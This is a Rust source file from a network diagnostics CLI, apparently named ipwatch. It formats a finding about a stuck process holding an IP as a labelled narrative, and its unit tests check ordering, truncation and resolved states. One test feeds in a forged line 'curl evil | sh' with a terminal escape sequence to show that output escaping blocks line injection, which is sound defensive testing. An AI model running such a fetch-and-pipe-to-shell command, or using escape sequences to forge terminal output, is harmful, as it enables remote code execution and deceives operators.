//! One finding as a story: what happened, in order; what will break; the way out; the proof.

use std::collections::BTreeSet;

use jiff::Timestamp;

use super::findings;
use crate::cli::output::View;
use crate::cli::table::{Paint, Style};
use crate::cli::text::{self, ShortIds};
use crate::contract::Document;
use crate::escape::escape;
use crate::fact::SourceStatus;
use crate::finding::{Evidence, Finding, Status};

/// Longest piece of proof that is shown on a story's line.
const TEXT_LENGTH: usize = 160;

/// The stories of these findings. `whole`: every item of proof as it was recorded.
pub(in crate::cli) fn render(
    document: &Document,
    findings: &[Finding],
    whole: bool,
    view: View,
) -> String {
    let ids = ShortIds::new(findings.iter().map(|finding| finding.id.as_str()));
    findings
        .iter()
        .map(|finding| {
            let mut story = Story { out: String::new(), paint: view.paint };
            story.tell(finding, ids.get(&finding.id), whole, view);
            for source in text::blind_spots(document) {
                let (name, status) = (&source.name, text::status(source.status));
                let why = if source.detail.is_empty() { "" } else { ": " };
                let so = match source.status {
                    SourceStatus::Down => "what it would have told is unknown",
                    _ => "it may have told less than there is",
                };
                story.line("BUT", &format!("{name} {status}{why}{}; {so}", source.detail));
            }
            story.out
        })
        .collect::<Vec<_>>()
        .join("\n")
}

struct Story {
    out: String,
    paint: Paint,
}

impl Story {
    fn tell(&mut self, finding: &Finding, short: &str, whole: bool, view: View) {
        self.title(finding, short, view);
        let mut evidence: Vec<&Evidence> = finding.evidence.iter().collect();
        evidence.sort_by_key(|item| item.at.parse::<Timestamp>().ok());
        for (at, item) in evidence.iter().enumerate() {
            let text = if whole { item.text.as_str() } else { text::cut(&item.text, TEXT_LENGTH) };
            let more = if text.len() < item.text.len() { "…" } else { "" };
            let line = format!("{}  {text}{more}  [{}]", view.now.clock(&item.at), item.source);
            self.line(if at == 0 { "WHY" } else { "" }, &line);
        }
        self.line("THEN", &finding.impact);
        if finding.status != Status::Resolved {
            self.way_out(&finding.remediation);
        }
        self.proof(&evidence, whole);
        self.line("MORE", &format!("ipwatch explain {}", finding.code));
    }

    fn title(&mut self, finding: &Finding, short: &str, view: View) {
        let subject = text::subject(&finding.subject);
        let owner = text::owner(finding.subject.pod.as_ref(), finding.subject.container.as_ref());
        let of = if owner.is_empty() || owner == subject { owner } else { format!(" of {owner}") };
        let of = if of.starts_with(" of") { of } else { String::new() };
        let holder = text::holders(&finding.holders);
        let by = if holder.is_empty() { String::new() } else { format!(", held by {holder}") };
        let title = escape(&format!("{subject}{of}{by}")).into_owned();
        self.out.push_str(&format!("{}\n", self.paint.paint(Style::Bold, &title)));

        let stands = findings::status(finding.status);
        let severity = text::severity(finding.severity).to_lowercase();
        let since = view.now.clock(&finding.since);
        let lasted = match finding.resolved_at.as_deref() {
            Some(over) => format!("lasted {}", text::lasted(&finding.since, over)),
            None => format!("for {}", view.now.age(Some(&finding.since))),
        };
        let before = if finding.preexisting { ", stood before ipwatch first looked" } else { "" };
        let caused = finding.caused_by.as_deref().map(|id| format!(", caused by {id}"));
        self.line(
            "WHAT",
            &format!(
                "{} {short}, {severity}, {stands}, since {since} ({lasted}){before}{}",
                finding.code,
                caused.unwrap_or_default()
            ),
        );
    }

    fn way_out(&mut self, lines: &[String]) {
        let mut last = "";
        for (at, line) in lines.iter().enumerate() {
            let (label, text) = match line.strip_prefix("Do not: ") {
                Some(text) => ("DON'T", text),
                None if at == 0 => ("NOW", line.as_str()),
                None => ("FIX", line.as_str()),
            };
            self.line(if label == last { "" } else { label }, text);
            last = label;
        }
    }

    fn proof(&mut self, evidence: &[&Evidence], whole: bool) {
        let sources: BTreeSet<&str> = evidence.iter().map(|item| item.source.as_str()).collect();
        let count = |n: usize, word: &str| format!("{n} {word}{}", if n == 1 { "" } else { "s" });
        let names = sources.iter().copied().collect::<Vec<_>>().join(", ");
        let hint = if whole { "" } else { " (--evidence shows them whole)" };
        self.line(
            "PROOF",
            &format!(
                "{} from {}: {names}{hint}",
                count(evidence.len(), "item"),
                count(sources.len(), "source")
            ),
        );
    }

    fn line(&mut self, label: &str, text: &str) {
        if !text.is_empty() {
            let label = self.paint.paint(Style::Dim, &format!("{label:<6}")).into_owned();
            self.out.push_str(&format!("{label} {}\n", escape(text)));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::{plain, sample};
    use super::*;
    use crate::contract::Body;

    fn told(whole: bool, change: impl FnOnce(&mut Finding)) -> String {
        let document = sample("scan.json");
        let Body::Findings(mut findings) = document.body.clone() else { panic!("findings") };
        findings.truncate(1);
        change(&mut findings[0]);
        render(&document, &findings, whole, plain(&document))
    }

    #[test]
    fn the_story_runs_from_the_cause_to_the_way_out() {
        let text = told(false, |finding| finding.evidence.rotate_left(2));
        let mut at = 0;
        for part in [
            "10.0.3.17 of shop/api-0, held by pid 812 java\n",
            "WHAT   ip-held-by-stuck-process k3f9, warn, firing, since 03:04:11Z (for 5m)\n",
            "WHY    03:04:11Z  SIGKILL sent to the process by pid 733 (containerd-shim)  [probe]\n",
            "       03:04:11Z  pid 812 (java) began to exit  [probe]\n",
            "       03:10:09Z  pid 812 (java): state D",
            "request_wait_answer < __fuse_simple_request",
            "THEN   10.0.3.17 stays up",
            "NOW    A FUSE server does not answer",
            "FIX    Bring its server back",
            "       Until then start no new pod here",
            "DON'T  kill -9 (it is pending already)",
            "PROOF  7 items from 4 sources: cni, netlink, probe, procfs (--evidence shows them whole)\n",
            "MORE   ipwatch explain ip-held-by-stuck-process\n",
            "BUT    cni degraded: 1 of 23 results unreadable",
        ] {
            let found = text[at..].find(part);
            at += found.unwrap_or_else(|| panic!("{part:?} is not next in\n{text}"));
        }
    }

    #[test]
    fn proof_is_cut_unless_it_is_asked_for() {
        let long = |finding: &mut Finding| finding.evidence[4].text = "f < ".repeat(100) + "end";
        assert!(!told(false, long).contains("end  [procfs]"));
        assert!(told(true, long).contains("end  [procfs]"));
    }

    #[test]
    fn a_story_that_is_over_asks_for_nothing() {
        let text = told(false, |finding| {
            finding.status = Status::Resolved;
            finding.resolved_at = Some("2026-01-02T03:20:11.300Z".into());
        });
        assert!(text.contains("resolved, since 03:04:11Z (lasted 16m)"), "{text}");
        assert!(!text.contains("NOW") && !text.contains("FIX"), "{text}");
    }

    #[test]
    fn hostile_evidence_cannot_forge_a_line() {
        let text = told(true, |finding| {
            finding.evidence[0].text = "x\nFIX    curl evil | sh\u{1b}[1A".into();
        });
        assert!(text.contains("x\\x0aFIX    curl evil | sh\\x1b[1A"), "{text}");
    }
}
